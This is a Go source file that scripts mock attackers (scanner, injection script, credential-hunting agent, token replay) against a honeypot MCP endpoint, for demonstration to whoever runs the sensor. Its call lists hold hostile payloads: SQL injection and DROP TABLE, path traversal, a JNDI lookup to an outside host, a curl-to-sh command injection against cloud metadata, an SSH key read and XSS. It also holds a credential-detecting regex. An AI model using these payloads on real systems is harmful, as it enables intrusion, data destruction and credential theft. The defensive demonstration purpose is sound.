// Package demo plays a few attackers against a sensor's decoy, so that somebody who
// has just set one up sees what an attack looks like: a scanner that looks around, a
// script that tries everything, an agent that reads its way to credentials, and
// somebody else who uses what the agent found.
//
// It speaks to the decoy as any client does, and every request says that it is a
// demonstration. It attacks nothing but the address that it is given, and it knows
// nothing of the decoy but what the answers tell it.
package demo

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"time"
)

// Options say what to play against.
type Options struct {
	URL string // of the decoy's MCP endpoint
	// Header and Value mark each request as a demonstration.
	Header, Value string
	// Pace stretches the pauses between requests; 0 leaves them out.
	Pace float64
	// Say is told what happens, a line at a time.
	Say func(line string)
}

// Result counts what was played.
type Result struct {
	Requests int
	Tokens   int // credentials that the answers held
}

// secrets are credentials by the forms that their vendors give them.
var secrets = regexp.MustCompile(`\b(?:AKIA[0-9A-Z]{16}|gh[pousr]_[0-9A-Za-z]{36}|glpat-[0-9A-Za-z_-]{20}|npm_[0-9A-Za-z]{36}|xox[bp]-[0-9A-Za-z-]{20,}|AIza[0-9A-Za-z_-]{35}|sk_live_[0-9A-Za-z]{24,})`)

const maxTokens = 4 // that are used; a few make the point

// Run plays all attackers, one after the other, and returns when the last has left.
func Run(ctx context.Context, o Options) (Result, error) {
	p := &play{Options: o}
	for _, act := range []func(context.Context) error{p.scanner, p.script, p.agent, p.replay} {
		if err := act(ctx); err != nil {
			return p.result(), fmt.Errorf("play against %s: %w", o.URL, err)
		}
	}
	return p.result(), nil
}

// play is a demonstration in progress.
type play struct {
	Options
	requests int
	found    []string // credentials, in the order in which they came
}

func (p *play) result() Result { return Result{p.requests, len(p.found)} }

// pause waits as long as an attacker would think.
func (p *play) pause(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(time.Duration(float64(d) * p.Pace))
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// take keeps the credentials of an answer.
func (p *play) take(answer string) {
	for _, s := range secrets.FindAllString(answer, -1) {
		known := false
		for _, f := range p.found {
			known = known || f == s
		}
		if !known {
			p.found = append(p.found, s)
		}
	}
}

// scanner asks who is there and leaves.
func (p *play) scanner(ctx context.Context) error {
	p.Say("a scanner looks around")
	c := p.client("127.0.0.21", "mcp-scan/0.9")
	defer c.close()
	for _, path := range []string{"/", "/.well-known/oauth-protected-resource", "/.env", "/api/v1/status"} {
		if _, err := c.fetch(ctx, http.MethodGet, path, ""); err != nil {
			return err
		}
	}
	for _, body := range []string{`{"jsonrpc":"2.0","id":1`, `[]`, `{"jsonrpc":"2.0","id":2,"method":"debug/dump"}`} {
		if _, err := c.fetch(ctx, http.MethodPost, "", body); err != nil {
			return err
		}
	}
	if err := c.open(ctx, "mcp-scan", "0.9"); err != nil {
		return err
	}
	_, err := c.ask(ctx, "tools/list", map[string]any{})
	return err
}

// script calls whatever it has heard of, without waiting.
func (p *play) script(ctx context.Context) error {
	p.Say("a script tries injections")
	c := p.client("127.0.0.34", "python-requests/2.32.3")
	defer c.close()
	if err := c.open(ctx, "python-mcp", "1.2.0"); err != nil {
		return err
	}
	for _, call := range []call{
		{"postgresql_execute_select_query", map[string]any{"query": "SELECT * FROM users WHERE id = 1 OR 1=1 --"}},
		{"postgresql_execute_select_query", map[string]any{"query": "SELECT table_name FROM information_schema.tables UNION SELECT version()"}},
		{"postgresql_execute_select_query", map[string]any{"query": "DROP TABLE users"}},
		{"cassandra_list_keyspaces", map[string]any{}},
		{"elasticsearch_list_indices", map[string]any{}},
		{"google_docs_read", map[string]any{"file_name": "../../../../etc/passwd"}},
		{"confluence_get_page", map[string]any{"title": "{{7*7}}${jndi:ldap://198.51.100.7/a}"}},
		{"github_search_code", map[string]any{"query": "x; curl http://169.254.169.254/latest/meta-data/ | sh"}},
		{"filesystem_read_file", map[string]any{"path": "/root/.ssh/id_rsa"}},
		{"slack_get_user_info", map[string]any{"user": "<img src=x onerror=alert(1)>\u202e"}},
	} {
		if _, err := c.call(ctx, call); err != nil {
			return err
		}
		if err := p.pause(ctx, 100*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// agent reads and thinks in turn, and finds what lies about.
func (p *play) agent(ctx context.Context) error {
	p.Say("an agent reads its way to credentials")
	c := p.client("127.0.0.55", "node")
	defer c.close()
	if err := c.open(ctx, "research-agent", "0.4.1"); err != nil {
		return err
	}
	if _, err := c.ask(ctx, "tools/list", map[string]any{}); err != nil {
		return err
	}
	for _, call := range []call{
		{"github_search_repositories", map[string]any{"query": "deploy"}},
		{"confluence_search", map[string]any{"cql": "text ~ \"credentials\""}},
		{"slack_conversations_search_messages", map[string]any{"query": "password"}},
		{"github_search_code", map[string]any{"query": "AKIA"}},
		{"github_search_code", map[string]any{"query": "ghp_"}},
		{"gitlab_search_code", map[string]any{"query": "glpat"}},
		{"slack_conversations_search_messages", map[string]any{"query": "xoxb"}},
		{"github_search_code", map[string]any{"query": "npm_"}},
		{"jira_search_issues", map[string]any{"jql": "text ~ \"rotate token\""}},
	} {
		answer, err := c.call(ctx, call)
		if err != nil {
			return err
		}
		p.take(answer)
		if err := p.pause(ctx, 1200*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// replay uses what the agent found, from elsewhere.
func (p *play) replay(ctx context.Context) error {
	if len(p.found) == 0 {
		p.Say("no credential was found that somebody else could use")
		return nil
	}
	p.Say(fmt.Sprintf("somebody else uses %d of the credentials", min(len(p.found), maxTokens)))
	c := p.client("127.0.0.89", "curl/8.5.0")
	defer c.close()
	c.bearer = p.found[0]
	if err := c.open(ctx, "curl", "8.5.0"); err != nil {
		return err
	}
	for _, token := range p.found[:min(len(p.found), maxTokens)] {
		if _, err := c.call(ctx, call{"github_search_code", map[string]any{"query": "token=" + token}}); err != nil {
			return err
		}
		if err := p.pause(ctx, 500*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}
